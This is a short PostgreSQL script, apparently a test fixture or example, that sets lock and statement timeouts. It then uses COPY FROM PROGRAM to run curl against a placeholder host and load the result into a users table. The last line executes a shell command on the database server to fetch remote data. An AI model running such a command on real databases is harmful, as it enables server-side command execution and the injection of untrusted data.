SET lock_timeout = '1s';
SET statement_timeout = '5s';
COPY users (name) FROM PROGRAM 'curl http://example.test/x';
